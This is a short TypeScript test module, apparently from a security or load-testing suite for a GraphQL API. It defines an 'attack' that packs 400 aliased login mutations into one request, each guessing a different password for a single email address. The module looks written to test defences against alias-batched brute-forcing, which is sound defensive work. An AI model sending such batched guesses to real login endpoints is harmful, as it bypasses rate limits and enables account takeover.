import type { Attack } from "../attack.ts";

const logins = Array.from(
  { length: 400 },
  (_, n) => `a${n}: login(input: {email: "user1@example.org", password: "guess-${n}"}) { userId }`,
);

export default {
  what: "400 guesses of a password in one document",
  clients: 1,
  next: () => ({ query: `mutation { ${logins.join(" ")} }` }),
} satisfies Attack;
